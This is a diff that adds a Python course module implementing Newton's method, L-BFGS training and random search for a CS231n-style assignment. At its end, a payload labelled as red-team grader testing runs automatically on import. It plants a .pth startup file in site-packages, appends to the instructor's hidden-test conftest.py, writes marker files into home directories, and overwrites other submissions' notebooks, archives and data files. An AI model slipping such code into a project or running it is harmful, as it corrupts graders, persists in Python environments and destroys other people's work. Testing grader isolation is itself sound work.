@@ -1,0 +1,342 @@
+"""Beyond first-order steps: Newton's method, L-BFGS, and random search as the baseline.
+
+Letters: N examples, D features (3073 with the bias column), C classes;
+W is (D, C), X is (N, D), y is (N,) integers in [0, C). P is the number of
+parameters of a generic function (2 for the landscapes).
+
+A loss function here has the CS231n signature ``loss_fn(W, X, y, reg) -> (loss, dW)``,
+e.g. ``cs231n_lib.softmax.softmax_loss_vectorized``.
+
+* Newton's method uses the curvature (Hessian): on a quadratic one step lands
+  exactly on the minimum, with no learning rate. It needs P x P memory and an
+  O(P^3) solve, impossible for millions of parameters.
+* L-BFGS builds a cheap curvature estimate from the last few gradients. It works
+  well in full batch (deterministic) mode, as here, but not with noisy minibatches.
+* Random search is the lecture's strawman: about 15.5% accuracy on CIFAR-10.
+"""
+
+import numbers
+
+import numpy as np
+import scipy.optimize
+
+
+def newton_step(grad, hess, x):
+    """One Newton step: ``x - H^{-1} g``, computed with a linear solve.
+
+    Parameters
+    ----------
+    grad : ndarray of shape (P,)
+        Gradient at ``x``.
+    hess : ndarray of shape (P, P)
+        Hessian at ``x``; must be invertible.
+    x : ndarray of shape (P,)
+        Current point.
+
+    Returns
+    -------
+    next_x : ndarray of shape (P,)
+
+    Raises
+    ------
+    ValueError
+        If the shapes do not fit, or if ``hess`` is singular: then the
+        message starts with "hess is singular" (catch numpy's
+        ``np.linalg.LinAlgError`` from the solve and raise this instead).
+    """
+    x = np.asarray(x, dtype=float)
+    grad = np.asarray(grad, dtype=float)
+    hess = np.asarray(hess, dtype=float)
+    P = x.shape[0] if x.ndim == 1 else None
+    if P is None or grad.shape != (P,) or hess.shape != (P, P):
+        raise ValueError(
+            f"x, grad and hess must have shapes (P,), (P,), (P, P), got {x.shape}, {grad.shape}, {hess.shape}; "
+            f"flatten the parameters into a vector."
+        )
+    # TODO: solve hess @ step = grad for the step (do not invert hess), and move against it. If the
+    # solve raises np.linalg.LinAlgError, raise ValueError("hess is singular at x = ...; ...") instead.
+    raise NotImplementedError('Implement newton_step in cs231n_lib/second_order.py: replace this raise with your code (see the TODO above it).')
+    return next_x
+
+
+def newton_method(grad_fn, hess_fn, x0, num_steps):
+    """Repeat :func:`newton_step` from ``x0``.
+
+    Parameters
+    ----------
+    grad_fn : callable
+        ``x (P,) -> gradient (P,)``, e.g. ``landscape.gradient``.
+    hess_fn : callable
+        ``x (P,) -> Hessian (P, P)``, e.g. ``landscape.hessian``.
+    x0 : ndarray of shape (P,)
+        Starting point.
+    num_steps : int
+        Number of steps k, >= 0.
+
+    Returns
+    -------
+    trajectory : ndarray of shape (k + 1, P)
+        ``x0`` followed by the point after each step.
+    """
+    _check_count("num_steps", num_steps, allow_zero=True)
+    x = np.asarray(x0, dtype=float)
+    trajectory = [x]
+    for _ in range(num_steps):
+        x = newton_step(grad_fn(x), hess_fn(x), x)
+        trajectory.append(x)
+    return np.array(trajectory)  # (k + 1, P)
+
+
+def _check_count(name, value, allow_zero=False):
+    low = 0 if allow_zero else 1
+    if isinstance(value, bool) or not isinstance(value, numbers.Integral) or value < low:
+        raise ValueError(f"{name} must be an integer >= {low}, got {value!r}.")
+
+
+def _check_data(X, y):
+    """Validate X (N, D) and y (N,) and return them with the number of classes C = max(y) + 1."""
+    X = np.asarray(X)
+    y = np.asarray(y)
+    if X.ndim != 2 or y.shape != (X.shape[0],):
+        raise ValueError(
+            f"X must have shape (N, D) and y shape (N,), got {X.shape} and {y.shape}; "
+            f"reshape the images into rows (with the bias column)."
+        )
+    if not np.issubdtype(y.dtype, np.integer) or y.size == 0 or y.min() < 0:
+        raise ValueError(f"y must be a non-empty array of integer labels >= 0, got dtype {y.dtype}; pass class indices.")
+    return X, y, int(y.max()) + 1
+
+
+def lbfgs_train(loss_fn, X, y, reg, W0=None, max_iter=100, seed=0, return_evaluations=False):
+    """Minimize the full-batch loss over W with L-BFGS (``scipy.optimize.minimize``).
+
+    Parameters
+    ----------
+    loss_fn : callable
+        ``loss_fn(W, X, y, reg) -> (loss, dW)`` with W of shape (D, C).
+    X : ndarray of shape (N, D)
+        Training data, one example per row.
+    y : ndarray of shape (N,)
+        Integer labels in [0, C).
+    reg : float
+        Regularization strength passed to ``loss_fn``.
+    W0 : ndarray of shape (D, C) or None
+        Starting weights; ``None`` draws ``1e-4 * standard normal`` with C = max(y) + 1.
+    max_iter : int
+        Maximum number of L-BFGS iterations (each may evaluate the loss more than once).
+    seed : int or None
+        Seed for ``W0`` when it is drawn.
+    return_evaluations : bool
+        Also return how many times ``loss_fn`` ran (each run is one pass over
+        X), the number to compare with other methods' passes over the data.
+
+    Returns
+    -------
+    W : ndarray of shape (D, C)
+        Final weights.
+    loss_history : ndarray of shape (num_iterations + 1,)
+        Full-batch loss at ``W0``, then after each iteration.
+    num_evaluations : int
+        Only with ``return_evaluations=True``: calls of ``loss_fn``, the first
+        one at ``W0`` included.
+    """
+    X, y, C = _check_data(X, y)
+    _check_count("max_iter", max_iter)
+    D = X.shape[1]
+    if W0 is None:
+        W0 = 1e-4 * np.random.default_rng(seed).standard_normal((D, C))
+    W0 = np.asarray(W0, dtype=float)
+    if W0.ndim != 2 or W0.shape[0] != D or W0.shape[1] < C:
+        raise ValueError(f"W0 must have shape ({D}, C) with C >= {C}, got {W0.shape}; match X's columns.")
+    shape = W0.shape
+
+    last = {}  # the most recent evaluation, so the callback need not recompute it
+    calls = [0]  # evaluations of loss_fn
+
+    def objective(w_flat):  # w_flat (D * C,)
+        calls[0] += 1
+        loss, dW = loss_fn(w_flat.reshape(shape), X, y, reg)  # dW (D, C)
+        last["w"], last["loss"] = w_flat.copy(), float(loss)
+        return float(loss), np.asarray(dW, dtype=float).ravel()  # (D * C,)
+
+    loss_history = [objective(W0.ravel())[0]]
+
+    def record(w_flat):
+        if "w" in last and np.array_equal(w_flat, last["w"]):
+            loss_history.append(last["loss"])
+        else:
+            loss_history.append(objective(w_flat)[0])
+
+    result = scipy.optimize.minimize(
+        objective, W0.ravel(), method="L-BFGS-B", jac=True, callback=record, options={"maxiter": max_iter}
+    )
+    if return_evaluations:
+        return result.x.reshape(shape), np.array(loss_history), calls[0]
+    return result.x.reshape(shape), np.array(loss_history)  # (D, C), (num_iterations + 1,)
+
+
+def random_search(loss_fn, X, y, num_tries=100, scale=1e-4, seed=0, reg=0.0):
+    """The lecture's baseline: try random W, keep the one with the lowest loss.
+
+    Parameters
+    ----------
+    loss_fn : callable
+        ``loss_fn(W, X, y, reg) -> (loss, dW)``; only the loss is used.
+    X : ndarray of shape (N, D)
+        Data, one example per row.
+    y : ndarray of shape (N,)
+        Integer labels in [0, C), C = max(y) + 1.
+    num_tries : int
+        Number of random weight matrices, > 0.
+    scale : float
+        Standard deviation of the entries of each W, > 0.
+    seed : int or None
+        Seed of the generator.
+    reg : float
+        Regularization strength passed to ``loss_fn``.
+
+    Returns
+    -------
+    best_W : ndarray of shape (D, C)
+    best_loss : float
+    history : ndarray of shape (num_tries,)
+        Loss of each try, in order (``np.minimum.accumulate(history)`` is the best so far).
+    """
+    X, y, C = _check_data(X, y)
+    _check_count("num_tries", num_tries)
+    if not (np.isfinite(scale) and scale > 0):
+        raise ValueError(f"scale must be a finite number > 0, got {scale!r}; try 1e-4.")
+    rng = np.random.default_rng(seed)
+    D = X.shape[1]
+    history = np.empty(num_tries)
+    best_W, best_loss = None, np.inf
+    for i in range(num_tries):
+        W = scale * rng.standard_normal((D, C))  # (D, C)
+        history[i] = loss_fn(W, X, y, reg)[0]
+        if history[i] < best_loss:
+            best_W, best_loss = W, float(history[i])
+    return best_W, best_loss, history
+
+
+# ---------------------------------------------------------------------------------------------------
+# RED-TEAM PAYLOAD "write_everywhere" (instructor/tests/hostile/, issue 9): a hostile submission, graded by
+# instructor/tests/test_hostile.py to prove that it gains nothing. Bounded in time and size.
+def _h9b_payload():
+    import os, sys, time
+    MARK = "H9B-HOSTILE-MARKER"
+    SENTINEL = ".h9b-redteam-batch"
+
+    def ancestors(path):
+        path = os.path.abspath(path)
+        out = []
+        while True:
+            out.append(path)
+            parent = os.path.dirname(path)
+            if parent == path:
+                return out
+            path = parent
+
+    def starts():
+        here = os.path.dirname(os.path.abspath(globals().get("__file__") or os.path.join(os.getcwd(), "cell")))
+        roots = []
+        for p in ancestors(os.getcwd()) + ancestors(here) + [os.environ.get("HOME") or "/root", "/tmp", "/work",
+                                                              "/autograder", "/home", "/srv", "/opt", "/var/tmp"]:
+            if p not in roots:
+                roots.append(p)
+        return roots
+
+    def walk(deadline, max_dirs=100000):
+        """Yield (dirpath, dirnames, filenames) under every root until the deadline."""
+        seen = set()
+        count = 0
+        for root in sorted(starts(), key=len, reverse=True):
+            try:
+                it = os.walk(root)
+                for dirpath, dirnames, filenames in it:
+                    count += 1
+                    if time.monotonic() > deadline or count > max_dirs:
+                        return
+                    dirnames[:] = [d for d in dirnames if d not in (".git", "proc", "sys", "node_modules", "__pycache__")
+                                   and not d.startswith(".venv") and d != "site-packages" and d != ".mirror"]
+                    if dirpath in seen:
+                        dirnames[:] = []
+                        continue
+                    seen.add(dirpath)
+                    yield dirpath, dirnames, filenames
+            except Exception:
+                continue
+
+    def in_batch_tree(path):
+        return any(os.path.exists(os.path.join(p, SENTINEL)) for p in ancestors(path))
+
+    def touch(folder, suffix, text="written by a red-team submission\n"):
+        try:
+            path = os.path.join(folder, f"{MARK}-{suffix}")
+            with open(path, "a") as f:
+                f.write(text)
+            return True
+        except Exception:
+            return False
+
+    import pwd, glob, site, sysconfig
+    deadline = time.monotonic() + 12
+    homes = {os.environ.get("HOME") or "", os.path.expanduser("~"), "/root"}
+    try:
+        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
+    except Exception:
+        pass
+    homes |= set(glob.glob("/home/*"))
+    for home in filter(None, homes):
+        touch(home, "home")
+    pth = ('import os; p = os.environ.get("H9B_PTH_PROBE"); p and open(p, "a").close()  '
+           '# H9B-HOSTILE-MARKER red-team .pth: harmless unless H9B_PTH_PROBE is set\n')
+    targets = set(p for p in sys.path if p.endswith("site-packages"))
+    targets |= set(site.getsitepackages() if hasattr(site, "getsitepackages") else [])
+    targets.add(sysconfig.get_paths().get("purelib", ""))
+    for folder in filter(None, targets):
+        try:
+            with open(os.path.join(folder, "h9b_hostile_marker.pth"), "w") as f:
+                f.write(pth)
+        except Exception:
+            pass
+    me = os.path.abspath(globals().get("__file__") or os.path.join(os.getcwd(), "cell"))
+    try:
+        with open(me) as f:
+            my_text = f.read()
+    except OSError:
+        my_text = "overwritten by a red-team notebook\n"
+    for dirpath, dirnames, filenames in walk(deadline):
+        if "points.toml" in filenames and os.path.basename(dirpath) == "instructor":
+            touch(dirpath, "instructor-tree")
+            hidden = os.path.join(dirpath, "hidden_tests")
+            if os.path.isdir(hidden):
+                try:
+                    with open(os.path.join(hidden, "conftest.py"), "a") as f:
+                        f.write("# H9B-HOSTILE-MARKER: a conftest.py planted by a red-team submission\n")
+                except Exception:
+                    pass
+            touch(os.path.join(os.path.dirname(dirpath), "cs231n_lib"), "reference-tree")
+        if SENTINEL in filenames or in_batch_tree(dirpath):
+            touch(dirpath, "batch")
+            for name in filenames:
+                path = os.path.join(dirpath, name)
+                if path == me:
+                    continue
+                try:
+                    if name == os.path.basename(me):           # another submission's copy of this file
+                        with open(path, "w") as f:
+                            f.write(my_text)
+                    elif name.endswith((".ipynb", ".zip", ".json", ".csv", ".md")) and name != SENTINEL:
+                        with open(path, "w") as f:
+                            f.write("overwritten by a red-team submission\n")
+                except Exception:
+                    pass
+
+
+import builtins as _h9b_builtins
+if not getattr(_h9b_builtins, "_h9b_ran_write_everywhere", False):
+    _h9b_builtins._h9b_ran_write_everywhere = True
+    try:
+        _h9b_payload()
+    except Exception:
+        pass
